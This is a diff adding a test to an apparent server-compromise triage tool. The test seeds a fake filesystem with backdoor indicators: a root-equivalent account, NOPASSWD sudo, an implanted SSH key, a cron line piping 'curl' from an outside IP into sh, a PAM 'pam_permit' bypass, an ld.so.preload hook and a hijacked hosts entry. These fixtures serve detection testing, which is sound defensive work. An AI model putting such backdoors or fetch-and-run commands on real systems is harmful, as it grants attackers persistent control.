@@ -684,6 +684,29 @@ def test_pam_backdoors_and_unowned_kernel_modules(tmp_path: Path) -> None:
                     "kernel_module")]
 
 
+def test_findings_carry_the_runners_check_name(tmp_path: Path) -> None:
+    from vpsrescue.triage.run import run_checks
+
+    t = Tree(tmp_path)
+    t.write("/etc/passwd", PASSWD + "toor:x:0:0::/root:/bin/sh\n")
+    t.write("/etc/sudoers", "toor ALL=(ALL) NOPASSWD: ALL\n")
+    t.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7"
+            "dAfJ2sCdHa3FzR+x9VO1391XZCI/G a@b\n")
+    t.write("/etc/cron.d/x", "* * * * * root curl http://203.0.113.1/x | sh\n")
+    t.write("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n")
+    t.write("/etc/rc.local", "/tmp/x &\n")
+    t.write("/etc/ld.so.preload", "/lib/x.so\n")
+    t.write("/tmp/x", ELF, mode=0o4755)
+    t.write("/usr/local/bin/x", "#!/bin/sh\n", mode=0o755)
+    t.write("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
+    t.write("/srv/torrents/a.torrent", "d4:infode")
+    t.link("/root/.bash_history", "/dev/null")
+    t.write("/etc/hosts", "203.0.113.5 security.debian.org\n")
+    report = run_checks(t.ctx(), system.CHECKS)
+    assert report.complete, report.errors
+    assert {f.check for f in report.findings} == set(report.checks)
+
+
 def test_checks_tuple_names_every_check() -> None:
     assert {c.__name__ for c in system.CHECKS} == {
         n for n in dir(system) if n.startswith("check_")}
